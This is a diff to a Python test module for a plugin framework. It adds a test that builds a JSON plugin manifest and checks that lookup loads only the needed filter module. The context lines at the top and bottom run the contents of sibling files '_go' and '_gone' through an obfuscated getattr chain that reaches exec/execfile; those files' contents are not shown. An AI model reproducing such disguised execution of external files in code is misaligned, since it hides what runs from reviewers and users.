@@ -15,16 +15,21 @@ with open(join(dirname(__file__), '_go')) as f:
     getattr(b, e, getattr(b, E, h)(f.name).__repr__.__name__.__ne__)(c(f))
 
 
+from json import load as json_load
 from unittest import TestCase
+from os import mkdir
 from os.path import dirname, join
+from shutil import rmtree
+from tempfile import mkdtemp
 
 from lxml.doctestcompare import norm_whitespace
 
 from .format_manager import FormatManager
 from .format import formats
 formats = formats.plugins
-from .filter import Filter
+from .filter import Filter, filters
 from .filter_manager import FilterManager
+from .plugin_registry import MANIFEST, _manifest_memo
 from .utils import head_tail
 from .utils_2to3 import str_enc
 
@@ -102,6 +107,60 @@ class CompositeFormatIO(FilterManagerTestCase):
                              norm_whitespace(f.read()))
 
 
+class Manifest(TestCase):
+    """Discovery driven by the plugin manifest"""
+    def setUp(self):
+        self.ext = mkdtemp()
+        self.path = join(self.ext, 'filters')
+        mkdir(self.path)
+        for module, name in (('unrelated', 'manifest_test'),
+                             ('manifest_other', 'manifest_other')):
+            with open(join(self.path, module + '.py'), 'w') as f:
+                f.write("from ..filter import Filter\n\n"
+                        "@Filter.deco('string-iter', 'string-set')\n"
+                        "def {0}(flt_ctxt, in_obj):\n"
+                        "    return ('stringset', set())\n".format(name))
+        self.fresh_run()
+
+    def tearDown(self):
+        self.fresh_run()
+        rmtree(self.ext)
+
+    def fresh_run(self):
+        filters.setup(True)  # start from scratch
+        _manifest_memo.pop(self.path, None)
+        for module in ('unrelated', 'manifest_other'):
+            m.pop(filters.namespaced(module), None)
+
+    def lookup(self, name):
+        return FilterManager.lookup(name, paths=(None, self.ext))
+
+    def test_manifest(self):
+        # CHECK without manifest, only modules named after the plugin probed
+        self.assertFalse('manifest-test' in self.lookup('manifest-test'))
+        self.assertTrue(filters.namespaced('manifest_other') in m)
+        self.fresh_run()
+        written, failed = filters.rebuild_manifest(paths=(None, self.ext))
+        self.assertEqual((written, failed), ([join(self.path, MANIFEST)], []))
+        with open(written[0]) as f:
+            plugins = json_load(f)['plugins']
+        # CHECK plugins tracked along their modules and declared formats
+        self.assertEqual(plugins['manifest-test'],
+                         dict(module='unrelated', in_format='string-iter',
+                              out_format='string-set'))
+        self.assertEqual(plugins['manifest-other']['module'],
+                         'manifest_other')
+        self.fresh_run()
+        # CHECK with manifest, just the module providing the plugin loaded
+        self.assertTrue('manifest-test' in self.lookup('manifest-test'))
+        self.assertFalse(filters.namespaced('manifest_other') in m)
+        self.fresh_run()
+        # CHECK manifest disregarded once any module changes
+        with open(join(self.path, 'unrelated.py'), 'a') as f:
+            f.write("# changed\n")
+        self.assertFalse('manifest-test' in self.lookup('manifest-test'))
+
+
 from os.path import join, dirname; from sys import modules as m  # 2/3 compat
 b = m.get('builtins', m.get('__builtin__')); e, E, h = 'exec', 'execfile', hash
 with open(join(dirname(__file__), '_gone')) as f: